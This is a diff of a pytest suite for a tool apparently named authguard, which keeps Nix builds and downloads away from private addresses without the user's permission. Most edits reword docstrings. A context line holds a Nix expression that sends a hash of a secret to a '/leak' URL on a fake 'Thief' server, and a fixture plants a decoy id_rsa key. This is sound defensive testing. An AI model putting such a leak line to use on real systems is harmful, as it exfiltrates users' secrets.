@@ -1,4 +1,4 @@
-"""Nothing is built here, and no private address is asked, before the user allows it."""
+"""Without the user's permission nothing is built here, and no private address is asked."""
 
 from __future__ import annotations
 
@@ -39,7 +39,7 @@ builtins.seq (builtins.fetchurl "{url}/leak?${{builtins.hashString "sha256" secr
 
 
 class Thief(HTTPServer):
-    """A server that remembers each request and may redirect."""
+    """A server that records each request and may redirect."""
 
     def __init__(self) -> None:
         """Listen on loopback."""
@@ -98,8 +98,8 @@ def stolen(tmp_path: Path, thief: Thief) -> Repo:
     ],
     ids=" ".join,
 )
-def test_nothing_is_built_here_without_leave(stolen: Repo, thief: Thief, words: tuple[str, ...]) -> None:
-    """Not even evaluated; a build says which command allows it."""
+def test_nothing_is_built_here_without_permission(stolen: Repo, thief: Thief, words: tuple[str, ...]) -> None:
+    """Nothing is evaluated either; the message of a build names the command that allows it."""
     done = stolen.run("authguard", *words, env=NO_LEAVE)
     assert thief.asked == []
     assert done.returncode in (2, 3), done
@@ -122,7 +122,7 @@ READS = {
 def test_an_evaluation_here_reads_the_commit_alone(
     tmp_path: Path, thief: Thief, nix: Nix, monkeypatch: pytest.MonkeyPatch, read: str
 ) -> None:
-    """The user allowed `local`: Nix still refuses everything outside."""
+    """The user allowed `local`: Nix still refuses everything outside of the commit."""
     for name, value in (*nix.environment.items(), ("AUTHGUARD_SECRET", "open sesame")):
         monkeypatch.setenv(name, value)
     (tmp_path / "id_rsa").write_text("open sesame")
@@ -175,7 +175,7 @@ def test_a_public_address(address: str) -> None:
     ],
 )
 def test_names_of_this_machine(host: str) -> None:
-    """The address to which the system resolves the name counts, in any spelling."""
+    """The address of the name counts, in any spelling."""
     with pytest.raises(NotAllowed, match=r"git config --add authguard\.hosts"):
         demand_public(host, 80, ())
     with pytest.raises(NotAllowed):
@@ -184,14 +184,14 @@ def test_names_of_this_machine(host: str) -> None:
 
 @pytest.mark.parametrize("url", ["http://{}/x", "https://{}/x", "git://{}/x", "ssh://{}/x", "git@{}:x"])
 def test_every_scheme(url: str) -> None:
-    """A repository on loopback, by whatever protocol; one that the user lists is asked."""
+    """A repository on loopback, by each protocol; one that the user lists is asked."""
     with pytest.raises(NotAllowed):
         Policy("all", listed=()).demand(url.format("127.0.0.1"))
     assert Policy("all", listed=("127.0.0.1",)).demand(url.format("127.0.0.1"))
 
 
 def test_a_download(thief: Thief, tmp_path: Path) -> None:
-    """Refused by name, and by the address that a redirect leads to."""
+    """It is refused by its name, and by the address of a redirect."""
     from authguard.prove.hashes.download import download
 
     with (tmp_path / "f").open("wb") as file:
@@ -204,8 +204,8 @@ def test_a_download(thief: Thief, tmp_path: Path) -> None:
     assert [path for path, _ in thief.asked] == ["/x"]
 
 
-def test_a_name_that_is_resolved_anew(thief: Thief, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Public when it is looked at, loopback when it is connected to: the first answer is the one that counts."""
+def test_a_name_that_is_resolved_again(thief: Thief, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """It is public when it is checked, and loopback at the connection: the first answer counts."""
     import socket
 
     from authguard.prove.hashes.download import download
@@ -241,7 +241,7 @@ def source(url: str, version: int) -> str:
     "words", [("--online",), ("--all", "--head", "HEAD"), ("--base", "HEAD~1", "--head", "HEAD")]
 )
 def test_a_change_that_widens_the_network(tmp_path: Path, thief: Thief, words: tuple[str, ...]) -> None:
-    """`network = "all"`, and a mirror of the change's own."""
+    """`network = "all"`, and a mirror that the change adds."""
     repo = Repo(tmp_path / "r")
     repo.write("tool.nix", source(thief.url, 1)).commit("one")
     wide = f'[mirrors]\nallow = ["127.0.0.1:{thief.server_port}"]\n[evidence]\nnetwork = "all"\n'
@@ -251,7 +251,7 @@ def test_a_change_that_widens_the_network(tmp_path: Path, thief: Thief, words: t
 
 
 def test_verify_asks_no_private_address(tmp_path: Path, thief: Thief) -> None:
-    """It says how to allow it, and prints no hash of the content there."""
+    """It prints how to allow it, and no hash of the content there."""
     repo = Repo(tmp_path / "r")
     repo.write("tool.nix", source(thief.url, 1)).commit("one")
     done = repo.run(
@@ -267,7 +267,7 @@ CREDENTIALS = f"http://user:{SECRET}@"
 
 
 def test_credentials_are_in_no_argument_list_and_no_cache(tmp_path: Path, thief: Thief) -> None:
-    """They are sent to their host alone; no process shows them, no file keeps them, no message prints them."""
+    """They are sent only to their host; no process list, file or message has them."""
     tools = tmp_path / "tools"
     tools.mkdir()
     log = tmp_path / "argv"
@@ -304,8 +304,8 @@ def test_credentials_are_in_no_argument_list_and_no_cache(tmp_path: Path, thief:
     assert all(header is None or re.match("Basic ", header) for _, header in thief.asked)
 
 
-def test_leave_is_given_by_one_command(tmp_path: Path) -> None:
-    """`allow` lists what the config asks for, and allows it."""
+def test_one_command_gives_permission(tmp_path: Path) -> None:
+    """`allow` lists the requests of the config, and allows them."""
     repo = Repo(tmp_path / "r")
     more = '[[gate]]\nname = "h"\npaths = ["**"]\nfile = "default.nix"\nbuilder = "fish"\n'
     config = GATE.replace('"off"', '"mirrors"') + more
